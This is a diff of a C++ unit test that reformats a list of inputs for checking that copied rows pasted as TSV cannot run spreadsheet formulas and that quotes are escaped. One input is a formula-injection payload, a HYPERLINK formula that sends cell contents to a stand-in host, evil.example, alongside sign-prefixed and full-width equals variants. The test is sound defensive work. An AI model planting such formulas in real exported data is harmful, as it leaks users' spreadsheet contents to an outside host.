@@ -44,11 +44,13 @@ TEST_CASE("a copied row is one line") {
 
 TEST_CASE("copied rows paste as rows: no formula runs, and a quote swallows nothing") {
   // From /work/shared/cases/tsv.json.
-  const std::pair<const char*, const char*> kCells[] = {{"\"Q3 plan", "\"\"\"Q3 plan\""},
-                                                       {"payroll", "payroll"},
-                                                       {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""},
-                                                       {"-5+3", "'-5+3"},
-                                                       {"＝1+1", "'＝1+1"}};
+  const std::pair<const char*, const char*> kCells[] = {
+      {"\"Q3 plan", "\"\"\"Q3 plan\""},
+      {"payroll", "payroll"},
+      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+       "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""},
+      {"-5+3", "'-5+3"},
+      {"＝1+1", "'＝1+1"}};
   for (const auto& [name, cell] : kCells) {
     Job j = TableFixture::job(1);
     j.collection_name = name;
